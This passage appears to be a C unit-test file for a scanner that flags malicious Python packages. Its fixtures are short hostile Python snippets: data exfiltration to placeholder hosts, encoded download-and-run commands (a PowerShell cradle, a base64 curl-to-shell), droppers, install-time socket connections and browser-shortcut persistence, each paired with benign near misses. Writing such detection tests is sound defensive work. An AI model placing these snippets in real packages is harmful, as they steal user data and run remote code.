		"demo-1.0/setup.py", "demo-1.0/helpers/__init__.py",
		"demo-1.0/helpers/net.py", "demo-1.0/tests/test_net.py"};
	static const char *const texts[] = {
		"from helpers import net\nnet.go()\n", "",
		"import requests\n"
		"def go():\n    requests.get('https://stats.example.invalid/i')\n",
		"import requests\n"
		"def test():\n    requests.get('https://stats.example.invalid/i')\n"};
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	/* setup.py comes first but imports a module that comes later: the
	 * module is judged as install-time code, the test file is not. */
	scan_artifact(&f, paths, texts, LG_ARRAY_SIZE(paths));
	assert_int_equal(sev_of(&f, LG_RULE_SETUP_NETWORK), LG_SEV_HIGH);
	assert_non_null(strstr(t_one(&f, LG_RULE_SETUP_NETWORK)->message,
			       "install context"));
	assert_string_equal(t_one(&f, LG_RULE_SETUP_NETWORK)->path,
			    "demo-1.0/helpers/net.py");
	lg_findings_dispose(&f);
	/* runtime-only code is one level lower than import-time code */
	assert_int_equal(scan_sev("pkg/x.py",
				  "import requests, getpass\n"
				  "def f():\n"
				  "    requests.post('https://a.invalid/', data=getpass.getuser())\n",
				  LG_RULE_NET_EXFIL),
			 LG_SEV_MEDIUM);
	assert_int_equal(scan_sev("pkg/x.py",
				  "import requests, getpass\n"
				  "def f():\n"
				  "    requests.post('https://a.invalid/', data=getpass.getuser())\n"
				  "f()\n",
				  LG_RULE_NET_EXFIL),
			 LG_SEV_HIGH);
	/* and tests/docs two levels lower */
	assert_int_equal(scan_sev("pkg/tests/x.py",
				  "import requests, getpass\n"
				  "requests.post('https://a.invalid/', data=getpass.getuser())\n",
				  LG_RULE_NET_EXFIL),
			 LG_SEV_LOW);
}

static void test_rules_behave__allowed_build_shapes(void **state)
{
	(void)state;
	/* version-file exec, torch-style git stamp, release shortcut */
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import os, subprocess, sys\n"
			 "about = {}\n"
			 "exec(open(os.path.join('demo', '__version__.py')).read(), about)\n"
			 "sha = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"
			 "if sys.argv[-1] == 'publish':\n"
			 "    os.system('python setup.py sdist bdist_wheel')\n"
			 "    os.system('twine upload dist/*')\n",
			 NULL),
		-1);
}


static void test_rules_behave__more_shapes(void **state)
{
	(void)state;
	/* powershell -EncodedCommand: UTF-16LE base64 of a download cradle
	 * (IEX DownloadString from 203.0.113.3) */
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "CMD = 'powershell -NoP -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgAzAC8AYQAnACkA'\n",
			 LG_RULE_ENCODED_CODE),
		LG_SEV_HIGH);
	/* a base64 shell command in a variable, decoded into os.system */
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "import os, base64\n"
			 "cmd = 'Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo'\n"
			 "os.system(base64.b64decode(cmd))\n",
			 LG_RULE_ENCODED_CODE),
		LG_SEV_HIGH);
	/* a bare public IP handed to socket.connect during install */
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import socket\n"
			 "s = socket.socket()\n"
			 "s.connect(('203.0.113.6', 9090))\n",
			 LG_RULE_SETUP_NETWORK),
		LG_SEV_CRITICAL);
	/* ... but the local-address probe through a public resolver is not */
	assert_int_equal(
		scan_sev("pkg/net.py",
			 "import socket\n"
			 "def local_ip():\n"
			 "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
			 "    s.connect(('8.8.8.8', 80))\n"
			 "    return s.getsockname()[0]\n",
			 NULL),
		-1);
	/* a local request() helper wrapping urlopen, fed host data */
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import getpass, urllib.request\n"
			 "def request(url, data=None):\n"
			 "    return urllib.request.urlopen(url, data=data)\n"
			 "request('https://c.invalid/', data=getpass.getuser().encode())\n",
			 LG_RULE_NET_EXFIL),
		LG_SEV_CRITICAL);
	/* for-loop and `+=` ahead of the assignment that uses them */
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "import getpass, urllib.request\n"
			 "u = getpass.getuser()\n"
			 "enc = ''\n"
			 "for c in u:\n"
			 "    enc += '%02x' % ord(c)\n"
			 "post = '%s%s' % ('g', enc)\n"
			 "urllib.request.urlopen('http://x.invalid/p', data=post.encode())\n",
			 LG_RULE_NET_EXFIL),
		LG_SEV_HIGH);
	/* packers and bulk renaming of builtins */
	assert_int_equal(scan_sev("demo-1.0/setup.py",
				  "from pytransform import pyarmor_runtime\n"
				  "pyarmor_runtime()\n",
				  LG_RULE_PACKER),
			 LG_SEV_HIGH);
	assert_int_equal(scan_sev("pkg/__init__.py",
				  "_a, _b, _c, _d = exec, str, map, ord\n",
				  LG_RULE_DYNAMIC_DISPATCH),
			 LG_SEV_HIGH);
	assert_int_equal(scan_sev("pkg/__init__.py",
				  "exec_ = exec\n", LG_RULE_DYNAMIC_DISPATCH),
			 -1);
	/* an executable (a stub PE header) hidden in a base64 constant */
	assert_int_equal(scan_sev("demo-1.0/setup.py",
				  "metadata = 'TVqQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQQAAAAFBFAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA='\n",
				  LG_RULE_ENCODED_CODE),
			 LG_SEV_CRITICAL);
	/* an .exe fetched from a chat CDN, written and run, even in code
	 * nothing calls at import */
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "import os, requests\n"
			 "def init():\n"
			 "    r = requests.get('https://cdn.discordapp.com/attachments/1/2/t.exe')\n"
			 "    open('t.bat', 'wb').write(r.content)\n"
			 "    os.system('t.bat')\n",
			 LG_RULE_DOWNLOAD_EXEC),
		LG_SEV_HIGH);
}

/* A dropper that marks its download executable and starts it through a
 * shell in the background (chmod +x, trailing &). */
static void test_rules_behave__download_shell_start(void **state)
{
	(void)state;
	assert_int_equal(
		scan_sev("pkg/fetch.py",
			 "import os, requests\n"
			 "def stage(name):\n"
			 "    rq = requests.get(f'http://203.0.113.7/{name}')\n"
			 "    with open(name, 'wb') as f:\n"
			 "        f.write(rq.content)\n"
			 "    os.system(f'chmod +x {name}')\n"
			 "    os.system(f'./{name} &')\n"
			 "stage('agent')\n",
			 LG_RULE_DOWNLOAD_EXEC),
		LG_SEV_HIGH);
	/* near miss: a release tarball from GitHub, unpacked with a shell. */
	assert_int_equal(
		scan_sev("pkg/fetch.py",
			 "import os, requests\n"
			 "def stage(dest):\n"
			 "    rq = requests.get('https://github.com/o/r/archive/v1.tar.gz')\n"
			 "    open(dest, 'wb').write(rq.content)\n"
			 "    os.system(f'tar xf {dest} && chmod +x r-1/configure')\n"
			 "stage('r.tgz')\n",
			 LG_RULE_DOWNLOAD_EXEC),
		-1);
}

/* Shortcuts of browsers rewritten to side-load an extension (the clipboard
 * hijackers' persistence). */
static void test_rules_behave__shortcut_extension(void **state)
{
	(void)state;
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import os\n"
			 "from win32com.client import Dispatch\n"
			 "shell = Dispatch('WScript.Shell')\n"
			 "for root, dirs, files in os.walk(os.getenv('APPDATA')):\n"
			 "    for f in files:\n"
			 "        if f.endswith('.lnk'):\n"
			 "            lnk = shell.CreateShortcut(os.path.join(root, f))\n"
			 "            lnk.Arguments = '--load-extension=C:\\\\x'\n"
			 "            lnk.Save()\n",
			 LG_RULE_PERSIST),
		LG_SEV_CRITICAL);
	/* near misses: a desktop shortcut made by an installer helper, and a
	 * browser-automation library that loads its own extension. */
	assert_int_equal(
		scan_sev("pkg/shortcut.py",
			 "from win32com.client import Dispatch\n"
			 "def make(target, path):\n"
			 "    s = Dispatch('WScript.Shell').CreateShortcut(path)\n"
			 "    s.TargetPath = target\n"
			 "    s.Save()\n",
			 LG_RULE_PERSIST),
		-1);
	assert_int_equal(
		scan_sev("pkg/driver.py",
			 "def options(o, ext):\n"
			 "    open(ext + '/manifest.json', 'w').write('{}')\n"
			 "    o.add_argument('--load-extension=' + ext)\n",
			 LG_RULE_PERSIST),
		-1);
}

/* Fingerprint functions handed to a wrapper uncalled still flow. */
static void test_rules_behave__exfil_by_reference(void **state)
{
	(void)state;
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "import os, json\nfrom urllib import request\n"
			 "def safe(fn, *a):\n"
			 "    try:\n        return fn(*a)\n"
			 "    except Exception:\n        return None\n"
			 "info = {'h': safe(os.uname), 'd': safe(os.getcwd)}\n"
			 "q = json.dumps(info)\n"
			 "request.urlopen(request.Request('https://x.invalid/?d=' + q))\n",
			 LG_RULE_NET_EXFIL),
		LG_SEV_HIGH);
	/* near miss: other functions handed over the same way. */
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "import os, json\nfrom urllib import request\n"
			 "def safe(fn, *a):\n"
			 "    return fn(*a)\n"
			 "info = {'p': safe(os.path.join, 'a', 'b'), 's': safe(os.cpu_count)}\n"
			 "request.urlopen('https://x.invalid/?d=' + json.dumps(info))\n",
			 LG_RULE_NET_EXFIL),
		-1);
}

/* exec of a string decrypted through a character table, and the
 * near miss of exec over lines of a variable. */
static void test_rules_behave__exec_char_table(void **state)
{
	(void)state;
	assert_int_equal(
		scan_sev("pkg/util.py",
			 "import string\n"
			 "a = string.ascii_letters\nr = a[::-1]\n"
			 "exec(''.join([r[a.index(c)] if c in r else c "
			 "for c in 'KIRMG(1)']))\n",
			 LG_RULE_DECODE_EXEC),
		LG_SEV_HIGH);
	assert_int_equal(
		scan_sev("pkg/util.py",
			 "def run(code):\n"
			 "    exec('\\n'.join(l for l in code.splitlines()))\n"
			 "run(open('x.py').read())\n",
			 LG_RULE_DECODE_EXEC),
		-1);
}

int test_rules_behave_group(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rules_behave__exfil_env),
		cmocka_unit_test(test_rules_behave__exfil_near_misses),
		cmocka_unit_test(test_rules_behave__remote_code),
		cmocka_unit_test(test_rules_behave__download_exec),
		cmocka_unit_test(test_rules_behave__self_attribute_taint),
		cmocka_unit_test(test_rules_behave__runtime_stealer),
		cmocka_unit_test(test_rules_behave__beacon_and_stores),
		cmocka_unit_test(test_rules_behave__import_process),
		cmocka_unit_test(test_rules_behave__import_process_near_misses),
		cmocka_unit_test(test_rules_behave__download_script),
		cmocka_unit_test(test_rules_behave__dropper_chain),
		cmocka_unit_test(test_rules_behave__encoded_destination),
		cmocka_unit_test(test_rules_behave__lolbin),
		cmocka_unit_test(test_rules_behave__reverse_shell),
		cmocka_unit_test(test_rules_behave__persist_and_miner),
		cmocka_unit_test(test_rules_behave__destinations),
		cmocka_unit_test(test_rules_behave__setup_network),
		cmocka_unit_test(test_rules_behave__credentials),
		cmocka_unit_test(test_rules_behave__dispatch),
		cmocka_unit_test(test_rules_behave__obfuscated_exec),
		cmocka_unit_test(test_rules_behave__encoded_code),
		cmocka_unit_test(test_rules_behave__contexts),
		cmocka_unit_test(test_rules_behave__install_chain),
		cmocka_unit_test(test_rules_behave__allowed_build_shapes),
		cmocka_unit_test(test_rules_behave__more_shapes),
		cmocka_unit_test(test_rules_behave__download_shell_start),
		cmocka_unit_test(test_rules_behave__shortcut_extension),
		cmocka_unit_test(test_rules_behave__exfil_by_reference),
		cmocka_unit_test(test_rules_behave__exec_char_table),
	};

	return cmocka_run_group_tests_name("rules_behave", tests, NULL, NULL);
}
